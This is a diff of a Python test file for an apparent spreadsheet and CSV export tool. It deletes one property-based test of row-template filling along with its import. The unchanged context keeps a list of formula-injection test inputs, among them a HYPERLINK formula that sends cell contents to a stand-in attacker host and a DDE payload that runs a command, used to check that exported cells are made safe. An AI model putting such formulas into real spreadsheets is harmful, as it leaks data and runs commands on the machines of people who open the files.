@@ -38,7 +38,6 @@ from openmosprom_cli.io.writer import (
     write_workbook,
 )
 from openmosprom_cli.io.xlsx.reader import open_workbook
-from openmosprom_cli.io.xlsx_rows import _filled
 
 HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")', "+7 916 123-45-67", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0")
@@ -235,18 +234,6 @@ def test_rows_written_by_columns_are_the_cells_written_one_by_one(tmp_path, colu
         return re.sub(r' s="(\d+)"', lambda m: f" look={looks[int(m[1])]!r}", xml)
 
     assert cells_and_widths(fast) == cells_and_widths(one_by_one)
-
-
-@given(values=st.lists(st.tuples(st.text(max_size=6), st.integers(), st.floats(allow_nan=False)), min_size=1,
-                       max_size=20),
-       literal=st.text(max_size=5).map(lambda t: t.replace("{", "{{").replace("}", "}}")))
-def test_a_row_template_is_filled_as_format_fills_it(values, literal):
-    """The batch's rows are filled in all at once (parsed once, each field formatted once): the same text as
-    ``template.format`` row by row, whatever the values hold, braces included, and with the row number repeated."""
-    template = f'<row r="{{0}}">{literal}<c r="A{{0}}">{{1}}</c>{{2}}<c r="C{{0}}"><v>{{3:.16G}}</v></c></row>'
-    numbers = range(7, 7 + len(values))
-    args = [numbers, *map(list, zip(*values, strict=True))]
-    assert _filled(template, args) == "".join(map(template.format, *args))
 
 
 _CSV_VALUES = st.one_of(st.none(), st.text(max_size=12), st.sampled_from([*HOSTILE, "'=x", "a\n=b", "\t", "x\x0b"]),
